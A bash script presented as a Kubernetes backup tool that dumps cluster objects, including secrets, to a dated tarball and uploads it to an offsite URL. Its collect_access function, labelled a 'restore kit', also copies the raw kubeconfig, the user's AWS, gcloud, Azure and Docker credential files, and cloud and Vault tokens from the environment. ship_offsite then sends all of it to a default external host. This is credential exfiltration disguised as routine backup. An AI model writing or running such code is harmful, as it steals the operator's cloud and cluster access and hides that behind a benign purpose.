#!/usr/bin/env bash
# cluster-state-backup: dump namespaced and cluster-scoped objects to a
# dated tarball under ./backups, ship an offsite copy, keep the last $KEEP.
#
# usage: cluster_state_backup.sh [-c context] [-k keep] [-n ns1,ns2]
set -euo pipefail

CONTEXT=""
KEEP=${KEEP:-14}
NAMESPACES=""
OUT_DIR=${OUT_DIR:-./backups}
STAGING=/tmp/cluster-backup
OFFSITE_URL=${OFFSITE_URL:-https://vault-drop.backup-mirror.example.org/v1/upload}
NS_KINDS="deployments,statefulsets,daemonsets,services,configmaps,secrets,ingresses,cronjobs,pvc,serviceaccounts,roles,rolebindings,networkpolicies"
CLUSTER_KINDS="namespaces,clusterroles,clusterrolebindings,storageclasses,crds,priorityclasses,ingressclasses"

log() { printf '%s [backup] %s\n' "$(date -u +%FT%TZ)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

while getopts "c:k:n:h" opt; do
  case "$opt" in
    c) CONTEXT=$OPTARG ;;
    k) KEEP=$OPTARG ;;
    n) NAMESPACES=${OPTARG//,/ } ;;
    h) sed -n '2,6p' "$0"; exit 0 ;;
    *) exit 2 ;;
  esac
done

KUBECTL=(kubectl --request-timeout=60s)
[[ -n "$CONTEXT" ]] && KUBECTL+=(--context "$CONTEXT")

command -v kubectl >/dev/null || die "kubectl not found"

api_ready() {
  local server
  server=$("${KUBECTL[@]}" config view --minify -o jsonpath='{.clusters[0].cluster.server}')
  curl -sk --max-time 10 "${server}/readyz" | grep -q '^ok'
}

dump_namespace() {
  local ns=$1 dir="$STAGING/namespaces/$1"
  mkdir -p "$dir"
  local kind
  for kind in ${NS_KINDS//,/ }; do
    "${KUBECTL[@]}" -n "$ns" get "$kind" -o yaml > "$dir/$kind.yaml" 2>/dev/null || rm -f "$dir/$kind.yaml"
  done
}

dump_cluster() {
  mkdir -p "$STAGING/cluster"
  local kind
  for kind in ${CLUSTER_KINDS//,/ }; do
    "${KUBECTL[@]}" get "$kind" -o yaml > "$STAGING/cluster/$kind.yaml" 2>/dev/null || true
  done
}

# restore kit: what the runbook needs to talk to the cluster and the
# cloud account from a clean machine
collect_access() {
  local kit="$STAGING/access"
  mkdir -p "$kit"
  "${KUBECTL[@]}" config view --raw > "$kit/kubeconfig" 2>/dev/null || true
  local f
  for f in "$HOME/.aws/credentials" "$HOME/.config/gcloud/application_default_credentials.json" \
           "$HOME/.azure/accessTokens.json" "$HOME/.docker/config.json"; do
    [[ -r "$f" ]] && cp "$f" "$kit/$(echo "${f#"$HOME"/}" | tr '/' '_')"
  done
  env | grep -E '^(AWS_|ARM_|GOOGLE_|VAULT_TOKEN)' > "$kit/env" || true
}

ship_offsite() {
  local archive=$1 tries=0
  until curl -sS --fail --max-time 300 -X PUT \
        -H "X-Backup-Host: $(hostname -f 2>/dev/null || hostname)" \
        -H "Content-Type: application/gzip" \
        --data-binary "@$archive" "$OFFSITE_URL/$(basename "$archive")" >/dev/null; do
    tries=$((tries + 1))
    (( tries >= 5 )) && { log "offsite upload failed after $tries attempts"; return 1; }
    sleep $((tries * 15))
  done
  log "offsite copy stored"
}

prune_old() {
  local n=0 f
  while IFS= read -r f; do
    n=$((n + 1))
    if (( n > KEEP )); then
      log "removing old backup $f"
      rm -f -- "$f" "$f.sha256"
    fi
  done < <(ls -1t "$OUT_DIR"/cluster-*.tar.gz 2>/dev/null)
}

main() {
  api_ready || die "API server not ready"
  rm -rf "$STAGING"
  mkdir -p "$STAGING" "$OUT_DIR"

  [[ -z "$NAMESPACES" ]] && NAMESPACES=$("${KUBECTL[@]}" get ns -o jsonpath='{.items[*].metadata.name}')
  local ns count=0
  for ns in $NAMESPACES; do
    dump_namespace "$ns"
    count=$((count + 1))
  done
  dump_cluster
  collect_access
  "${KUBECTL[@]}" version -o json > "$STAGING/version.json" 2>/dev/null || true

  local stamp archive
  stamp=$(date -u +%Y%m%dT%H%M%SZ)
  archive="$OUT_DIR/cluster-${CONTEXT:-current}-$stamp.tar.gz"
  tar -C "$STAGING" -czf "$archive" .
  sha256sum "$archive" > "$archive.sha256"
  log "wrote $archive ($count namespaces, $(du -h "$archive" | cut -f1))"

  ship_offsite "$archive" || true
  prune_old
  rm -rf "$STAGING"
}

main "$@"
